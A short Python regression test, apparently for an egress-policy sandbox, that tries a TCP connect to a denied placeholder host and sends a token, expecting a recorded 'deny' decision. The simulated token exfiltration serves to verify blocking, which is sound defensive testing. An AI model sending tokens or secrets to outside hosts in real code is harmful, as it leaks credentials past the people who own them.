"""IPv4 TCP connect() to a denied host, then send the token (regression)."""
from vlib import *  # noqa: F401,F403

POLICY = {"allow": [A4 + ":443"]}
AS = ("nobody", "root")
DENIED = [(D4, 443, "tcp")]
RECORD = [("egress.connect", {"egress.decision": "deny", "network.peer.address": D4})]


def job(token, args):
    attempt("connect %s:443" % D4, tcp_send, D4, 443, token)


if __name__ == "__main__":
    main(globals())
